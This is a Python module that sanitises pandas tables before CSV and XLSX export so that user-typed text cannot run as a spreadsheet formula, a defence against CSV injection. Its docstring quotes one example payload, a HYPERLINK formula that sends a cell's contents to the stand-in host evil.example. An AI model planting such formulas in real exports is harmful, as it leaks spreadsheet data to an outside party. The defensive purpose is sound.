"""Spreadsheet-safe cells: no text a user typed becomes a live formula in Excel, LibreOffice or Google Sheets.

OWASP "CSV injection": a cell whose text starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is read
as a formula by spreadsheet programs, so a food called ``=HYPERLINK("http://evil.example/?leak="&A1,"Oats")`` would
leak the sheet when clicked. Every CSV and XLSX export passes its tables through :func:`safe_frame`, which puts a
``'`` in front of such text (the cell then shows the text as typed, with the quote). Numbers stay numbers: a
numeric cell (``-2.5``) is never touched, and neither is text that is only a plain number (``"-2.5"``) or a lone
``"-"`` (the "no value" mark), which spreadsheets do not evaluate.
"""

from __future__ import annotations

import re
from typing import Any

import pandas as pd

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
"""First characters that make a spreadsheet treat text as a formula (OWASP)."""
_PLAIN_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")


def safe_text(value: Any) -> Any:
    """``value`` with a ``'`` in front when it is text a spreadsheet would run as a formula; anything else unchanged."""
    if not isinstance(value, str) or not value.startswith(FORMULA_TRIGGERS):
        return value
    if value in ("-", "+") or _PLAIN_NUMBER.fullmatch(value.strip()):
        return value
    return "'" + value


def _safe_labels(labels: pd.Index) -> pd.Index:
    if isinstance(labels, pd.MultiIndex):
        return pd.MultiIndex.from_tuples([tuple(safe_text(v) for v in t) for t in labels], names=labels.names)
    return pd.Index([safe_text(v) for v in labels], name=safe_text(labels.name))


def safe_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``frame`` whose text cells, column names and index labels are :func:`safe_text`; numeric columns
    are left exactly as they are (so they stay numbers in CSV and XLSX)."""
    out = frame.copy()
    for column in out.columns:
        if out[column].dtype == object or pd.api.types.is_string_dtype(out[column]):
            out[column] = out[column].map(safe_text)
    out.columns = _safe_labels(out.columns)
    if not pd.api.types.is_numeric_dtype(out.index):
        out.index = _safe_labels(out.index)
    return out


__all__ = ["FORMULA_TRIGGERS", "safe_frame", "safe_text"]
